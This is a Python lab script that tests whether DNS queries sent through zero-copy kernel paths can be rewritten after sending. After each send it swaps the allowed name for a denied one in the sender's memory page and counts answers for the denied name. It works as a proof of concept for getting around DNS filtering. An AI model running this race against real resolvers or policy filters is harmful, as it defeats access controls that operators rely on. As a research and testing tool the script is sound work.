# SPDX-License-Identifier: Apache-2.0
"""DNS queries whose octets stand in the sender's own pages: sent for one name, then written over with another.

usage: changed_pages.py SERVER GOOD EVIL udp|tcp WAY TRIES LAB     WAY: sendfile, splice, vmsplice, zerocopy, uring (send_zc)

Prints one JSON line: {"sent": taken by the kernel, "errors": {errno: times}, "evil": answers for the denied name, "us": the longest
call}, and "disabled" where io_uring is.
"""
import ctypes
import json
import mmap
import os
import socket
import sys

server, good, evil, protocol, way, tries, lab = sys.argv[1:8]
sys.path.insert(0, lab)
import dns  # noqa: E402
import uring  # noqa: E402
from clock import Clock, name_of  # noqa: E402

SO_ZEROCOPY, MSG_ZEROCOPY, SPLICE_F_GIFT = 60, 0x4000000, 8
LIBC = ctypes.CDLL(None, use_errno=True)
FILE = os.memfd_create("queries")
os.ftruncate(FILE, 4096)
PAGE = mmap.mmap(FILE, 4096)
OWN = (ctypes.c_char * 4096).from_buffer(PAGE)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def by_pipe(sock: socket.socket, length: int, fill) -> None:
    reader, writer = os.pipe()
    try:
        fill(writer)
        os.splice(reader, sock.fileno(), length)
    finally:
        os.close(reader)
        os.close(writer)


def gift(writer: int, length: int) -> None:
    if LIBC.vmsplice(writer, ctypes.byref(Iovec(ctypes.addressof(OWN), length)), 1, SPLICE_F_GIFT) != length:
        raise OSError(ctypes.get_errno(), "vmsplice")


def send(sock: socket.socket, length: int) -> None:
    if way == "sendfile":
        os.sendfile(sock.fileno(), FILE, 0, length)
    elif way == "splice":
        by_pipe(sock, length, lambda writer: os.splice(FILE, writer, length, offset_src=0))
    elif way == "vmsplice":
        by_pipe(sock, length, lambda writer: gift(writer, length))
    elif way == "zerocopy":
        sock.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        sock.send(memoryview(PAGE)[:length], MSG_ZEROCOPY)
    else:
        uring.with_ring("inline", lambda ring: ring.run(uring.SEND_ZC, sock.fileno(), address=ctypes.addressof(OWN), length=length))


def once(number: int, seen: dict) -> None:
    first, second = dns.query(number, good), dns.query(number, evil)
    assert len(first) == len(second)
    if protocol == "tcp":
        first, second = (len(one).to_bytes(2, "big") + one for one in (first, second))
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # what is not sent by then is not sent again
        sock.connect((server, 53))
        PAGE[:len(first)] = first
        clock = Clock()
        try:
            try:
                send(sock, len(first))
            finally:
                seen["us"] = max(seen["us"], clock.us())
            seen["sent"] += 1
            PAGE[:len(second)] = second
            if dns.wire_name(evil) in sock.recv(4096):
                seen["evil"] += 1
        except uring.Disabled:
            seen["disabled"] = True
        except OSError as error:
            seen["errors"][name_of(error)] = seen["errors"].get(name_of(error), 0) + 1


def main() -> None:
    seen = {"sent": 0, "errors": {}, "evil": 0, "us": 0}
    for number in range(1, int(tries) + 1):
        once(number, seen)
    print(json.dumps(seen))


main()
